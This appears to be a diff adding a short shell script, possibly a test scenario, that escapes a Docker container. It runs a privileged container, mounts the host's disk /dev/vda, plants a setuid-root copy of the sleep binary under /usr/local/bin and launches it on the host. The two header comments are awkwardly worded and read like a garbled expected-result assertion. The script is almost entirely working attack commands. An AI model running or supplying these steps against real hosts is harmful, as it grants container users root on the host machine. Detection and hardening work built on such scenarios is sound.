@@ -1,0 +1,7 @@
+# Root of the host runs it: nobody has become anything.
+# says: No process on the host has become root by a file that the container left there.
+docker run -d --name thief --privileged alpine sleep 3600
+docker exec thief mount -t ext4 /dev/vda /mnt
+docker exec thief cp /mnt/usr/bin/sleep /mnt/usr/local/bin/rootsleep
+docker exec thief chmod 4755 /mnt/usr/local/bin/rootsleep
+setsid -f rootsleep 3600 > /dev/null 2>&1 < /dev/null
